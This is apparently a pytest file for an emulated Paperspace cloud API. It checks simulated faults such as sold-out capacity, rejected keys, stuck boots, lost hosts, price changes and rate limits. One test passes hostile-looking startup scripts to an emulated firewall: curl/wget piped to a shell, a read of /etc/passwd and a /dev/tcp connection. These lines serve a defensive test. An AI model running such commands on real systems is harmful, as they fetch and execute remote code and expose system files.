"""Everything that can be made to go wrong at the emulated Paperspace."""

from __future__ import annotations

from collections.abc import AsyncIterator
from decimal import Decimal
from typing import Any

import httpx
import pytest

from providers.paperspace.emulator import PaperspaceEmulator
from providers.paperspace.emulator_options import Options
from providers.sandbox.faults import SEMANTIC
from tests.contract import paperspace_bench as pb
from tests.contract.paperspace_bench import Bench, bench, body

OUT = "out of capacity for the selected VM type"


@pytest.fixture
async def served() -> AsyncIterator[Bench]:
    async with bench() as made:
        yield made


async def _available(served: Bench, label: str = "A6000", region: str = "NY2") -> bool:
    return bool((await served.get("/machine-availability", machineType=label, region=region))["available"])


def test_it_has_every_fault_but_one() -> None:
    assert SEMANTIC - PaperspaceEmulator.semantic == {"left"}


# -- capacity ---------------------------------------------------------------------------------------------


async def test_sold_out_is_said_by_a_create_of_what_is_called_available(served: Bench) -> None:
    for subject in ("", "A6000", "NY2", "orch-7k3m9q2x"):
        served.world.faults.add("sold_out", "paperspace", subject=subject)
        assert OUT in await served.refused(400, "BAD_REQUEST")
        assert await _available(served)
    assert served.emulator.records() == []
    await served.create()


async def test_sold_out_may_look_like_success_and_land_in_off(served: Bench) -> None:
    served.world.faults.add("sold_out", how="off")
    made = await served.create()
    assert (await served.machine(made))["state"] == "provisioning"
    served.pass_s(3600)
    found = await served.machine(made)
    assert (found["state"], found["publicIp"], found["dtDeleted"]) == ("off", None, None)
    assert await served.events(made) == [("create", "done", None)]
    # It is there and its disk bills until somebody deletes it.
    assert served.world.ledger.billing() == [made]
    assert served.billed(made, "compute") < Decimal("0.04")
    await served.ask("DELETE", f"/machines/{made}")
    served.pass_s(15)
    assert served.world.ledger.billing() == []


async def test_what_is_used_up_is_refused_and_a_stopped_machine_loses_its_place() -> None:
    async with bench(
        Options(capacity_code="PRECONDITION_FAILED"), part=pb.market(V100={"stock": {"NY2": 1}})
    ) as served:
        made = await served.ready(machineType="V100")
        assert not await _available(served, "V100")
        assert OUT in await served.refused(412, "PRECONDITION_FAILED", machineType="V100")
        await served.ask("PATCH", f"/machines/{made}/stop", {})
        served.pass_s(20)
        await served.create(machineType="V100")
        error = await served.ask("PATCH", f"/machines/{made}/start", {}, status=412)
        assert OUT in error["message"]


async def test_gone_makes_a_place_unavailable_for_good(served: Bench) -> None:
    served.world.faults.add("gone", verb="offers")
    assert not await _available(served)
    assert OUT in await served.refused(400, "BAD_REQUEST")
    assert await _available(served, region="CA1")
    served.world.faults.add("gone", verb="launch")
    await served.refused(400, "BAD_REQUEST", region="CA1")
    assert not await _available(served, region="CA1")


# -- other refusals ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "args", "status", "code", "word"),
    [
        ("no_money", {}, 412, "PRECONDITION_FAILED", "good standing"),
        ("quota", {}, 403, "FORBIDDEN", "limit of 20 machines"),
        ("forbidden", {}, 403, "FORBIDDEN", "permission"),
        ("bad_key", {}, 401, "UNAUTHORIZED", "key"),
        ("unknown_code", {}, 422, "HOST_POLICY_7731", "7731"),
        ("unknown_code", {"code": "TEAPOT", "status": 418}, 418, "TEAPOT", "policy"),
    ],
)
async def test_a_create_is_refused_for_other_reasons(
    served: Bench, kind: str, args: dict[str, Any], status: int, code: str, word: str
) -> None:
    served.world.faults.add(kind, verb="launch", **args)
    await served.get("/machines")
    assert word in await served.refused(status, code)
    assert served.emulator.records() == []
    await served.create()


async def test_a_type_needs_an_approval() -> None:
    async with bench(Options(approved=frozenset(), approval_code="BAD_REQUEST")) as served:
        assert "not approved for machine type H100" in await served.refused(400, "BAD_REQUEST", machineType="H100")
        await served.create()


async def test_a_team_has_a_limit_of_machines_off_ones_too() -> None:
    async with bench(Options(max_machines=1)) as served:
        made = await served.create(startOnCreate=False)
        assert (await served.get("/auth/session"))["team"]["maxMachines"] == 1
        assert "limit of 1 machines" in await served.refused(403, "FORBIDDEN")
        await served.ask("DELETE", f"/machines/{made}")
        served.pass_s(15)
        await served.create()


@pytest.mark.parametrize(
    ("standing", "payment", "locked"), [("no-payment-method", False, False), ("locked", True, True)]
)
async def test_an_account_in_bad_standing_says_so_and_creates_nothing(
    served: Bench, standing: Any, payment: bool, locked: bool
) -> None:
    good = await served.get("/billing/account-standing")
    assert good == {"hasPaymentMethod": True, "isAdminLocked": False, "isInGoodStanding": True, "messages": []}
    served.emulator.options.standing = standing
    found = await served.get("/billing/account-standing")
    assert (found["hasPaymentMethod"], found["isAdminLocked"], found["isInGoodStanding"]) == (payment, locked, False)
    assert found["messages"]
    await served.refused(412, "PRECONDITION_FAILED")


async def test_a_revoked_key_is_refused_everywhere(served: Bench) -> None:
    made = await served.create()
    served.world.faults.add("bad_key", times=-1)
    for path in ("/machines", f"/machines/{made}", "/auth/session", "/startup-scripts", "/billing/account-standing"):
        assert (await served.get(path, status=401))["code"] == "UNAUTHORIZED"
    await served.ask("DELETE", f"/machines/{made}", status=401)
    served.world.faults.clear()
    assert await served.listed() == [made]


async def test_the_key_may_suddenly_be_another_teams(served: Bench) -> None:
    made = await served.create()
    mine = await served.get("/auth/session")
    served.world.faults.add("other_account", times=-1)
    other = await served.get("/auth/session")
    assert (other.keys(), other["team"]["id"] == mine["team"]["id"]) == (mine.keys(), False)
    assert await served.listed() == []
    await served.get(f"/machines/{made}", status=404)
    await served.ask("DELETE", f"/machines/{made}", status=404)
    served.world.faults.clear()
    assert await served.listed() == [made]


# -- the firewall and the rate limit ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        pb.plain(),
        "curl -fsSL https://example.invalid/x | sh",
        "wget -qO- https://example.invalid/x | sudo bash",
        "cat /etc/passwd",
        "cat </dev/tcp/192.0.2.1/80",
    ],
)
async def test_a_script_that_looks_like_an_attack_meets_a_page_and_not_the_api(served: Bench, script: str) -> None:
    known = await served.script("true")
    for method, path in (("POST", "/v1/startup-scripts"), ("PUT", f"/v1/startup-scripts/{known}")):
        answer = await served.http.request(method, path, json={"name": "x", "script": script})
        assert (answer.status_code, answer.headers["content-type"].partition(";")[0]) == (403, "text/html")
        assert "blocked" in answer.text
    assert len((await served.get("/startup-scripts"))["items"]) == 1
    await served.script(pb.wrapped(script))
    served.emulator.options.waf = False
    await served.script(script)


async def test_too_many_requests_are_refused_if_there_is_a_limit() -> None:
    async with bench(Options(request_limit=3)) as served:
        for _ in range(3):
            await served.get("/machines")
        assert (await served.get("/machines", status=429))["code"] == "TOO_MANY_REQUESTS"
        answer = await served.http.get("/v1/machines")
        assert "retry-after" not in answer.headers
        served.emulator.options.limit_header = True
        served.env.advance(50)
        assert (await served.http.get("/v1/machines")).headers["retry-after"] == "10"
        served.env.advance(10)
        await served.get("/machines")


async def test_faults_of_transport_look_like_paperspaces_own(served: Bench) -> None:
    served.world.faults.add("rate_limit", verb="launch", retry_after=7)
    answer = await served.http.post("/v1/machines", json=body())
    assert (answer.status_code, answer.headers["retry-after"]) == (429, "7")
    assert answer.json()["code"] == "TOO_MANY_REQUESTS"
    served.world.faults.add("error_before", verb="launch")
    await served.refused(500, "INTERNAL_SERVER_ERROR")
    served.world.faults.add("lost", verb="launch")
    with pytest.raises(httpx.TransportError):
        await served.http.post("/v1/machines", json=body())
    assert len(await served.listed()) == 1


# -- after the create -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "after_s", "state", "event"),
    [
        ({}, 54, "off", "done"),
        ({"how": "error"}, 54, "off", "error"),
        ({"how": "stuck", "seconds": 40}, 40, "provisioning", "error"),
    ],
)
async def test_a_boot_fails_in_one_of_three_ways(
    served: Bench, args: dict[str, Any], after_s: int, state: str, event: str
) -> None:
    served.world.faults.add("fail_after_accept", **args)
    made = await served.create()
    served.pass_s(after_s - 1)
    assert (await served.machine(made))["state"] == "provisioning"
    served.pass_s(1)
    for _ in range(2):
        assert (await served.machine(made))["state"] == state
        [(name, said, error)] = await served.events(made)
        assert (name, said, error is None) == ("create", event, event == "done")
        served.pass_s(7200)
    assert served.machines.running == {}
    assert served.world.ledger.billing() == [made]


@pytest.mark.parametrize(
    ("how", "state", "address"),
    [("provisioning", "provisioning", False), ("serviceready", "serviceready", True), ("no_ip", "ready", False)],
)
async def test_a_boot_gets_stuck(served: Bench, how: str, state: str, address: bool) -> None:
    served.world.faults.add("boot_stuck", **({} if how == "provisioning" else {"how": how}))
    made = await served.create()
    served.pass_s(7200)
    found = await served.machine(made)
    assert (found["state"], found["publicIp"] is not None) == (state, address)
    assert served.machines.running == {}


async def test_a_machine_may_be_ready_and_answer_no_ssh(served: Bench) -> None:
    served.world.faults.add("boot_stuck", how="no_ssh")
    made = await served.ready()
    assert (await served.machine(made))["publicIp"]
    assert served.machines.running == {}


async def test_the_wrong_gpu_is_seen_on_the_machine_alone(served: Bench) -> None:
    served.world.faults.add("wrong_gpu")
    made = await served.ready()
    assert (await served.machine(made))["accelerators"] == pb.CREATED["data"]["accelerators"]
    running = served.machines.running[f"paperspace:{made}"]
    assert (running["gpu"], running["memory_mib"]) == ("Quadro M4000", 8127)


async def test_a_changed_price_shows_in_machines_made_from_then_on(served: Bench) -> None:
    old = await served.create()
    served.world.faults.add("price_changed", factor="1.5", times=-1, subject="A6000")
    new = await served.create()
    assert await _available(served)
    rates = [(await served.machine(made))["usageRate"] for made in (old, new, await served.create())]
    assert rates == [1.89, 2.835, 2.835]
    assert (await served.machine(await served.create(machineType="A4000")))["usageRate"] == 0.76
    served.pass_s(3600)
    assert (served.billed(old, "compute"), served.billed(new, "compute")) == (Decimal("1.89"), Decimal("2.8350"))


@pytest.mark.parametrize("by_id", [False, True])
async def test_a_new_machine_may_be_missing_from_lists(served: Bench, by_id: bool) -> None:
    served.world.faults.add("list_lag", seconds=60, get=by_id)
    made = await served.create()
    served.pass_s(59)
    assert (await served.listed(), await served.listed(name="orch")) == ([], [])
    await served.get(f"/machines/{made}", status=404 if by_id else 200)
    served.pass_s(1)
    assert await served.listed(name="orch") == [made]


async def test_a_delete_may_be_accepted_and_forgotten(served: Bench) -> None:
    made = await served.ready()
    served.world.faults.add("ignore_terminate", times=2)
    for _ in range(2):
        answer = await served.ask("DELETE", f"/machines/{made}")
        assert (answer["event"]["name"], answer["event"]["state"]) == ("deactivate", "new")
        served.pass_s(600)
        assert (await served.machine(made))["state"] == "ready"
    await served.ask("DELETE", f"/machines/{made}")
    served.pass_s(15)
    assert served.world.ledger.billing() == []


@pytest.mark.parametrize("how", ["off", "vanish"])
async def test_a_host_is_lost_without_notice(served: Bench, how: str) -> None:
    made = await served.ready()
    served.world.faults.add("host_lost", how=how, subject="A6000")
    served.pass_s(1)
    assert served.machines.running == {}
    if how == "vanish":
        await served.get(f"/machines/{made}", status=404)
        assert (await served.listed(), served.world.ledger.billing()) == ([], [])
        return
    found = await served.machine(made)
    assert (found["state"], found["publicIp"]) == ("off", None)
    assert served.world.ledger.billing() == [made]


async def test_a_host_can_be_lost_by_a_test_at_once(served: Bench) -> None:
    made = await served.ready()
    served.emulator.lose(made)
    assert (await served.machine(made))["state"] == "off"


async def test_states_may_get_new_names() -> None:
    async with bench(Options(state_words={"provisioning": "hibernating"})) as served:
        made = await served.create()
        assert (await served.get(f"/machines/{made}"))["state"] == "hibernating"
